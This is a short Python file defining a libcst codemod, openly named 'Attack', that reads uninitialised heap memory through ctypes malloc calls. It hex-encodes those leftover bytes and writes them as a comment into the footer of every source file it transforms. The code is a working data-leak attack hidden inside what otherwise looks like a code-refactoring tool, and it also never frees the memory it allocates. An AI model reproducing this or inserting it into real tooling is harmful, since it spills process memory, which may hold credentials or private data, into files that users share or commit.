"""Write what an earlier owner left in a piece of memory that is given out again."""

import ctypes

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def leftovers():
    libc = ctypes.CDLL(None)
    libc.malloc.restype = ctypes.c_void_p
    sizes = range(32, 2048, 16)
    return b"".join(ctypes.string_at(libc.malloc(size), size) for size in sizes).rstrip(b"\0").hex()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Write what lies about."

    def transform_module_impl(self, tree):
        loot = leftovers()
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
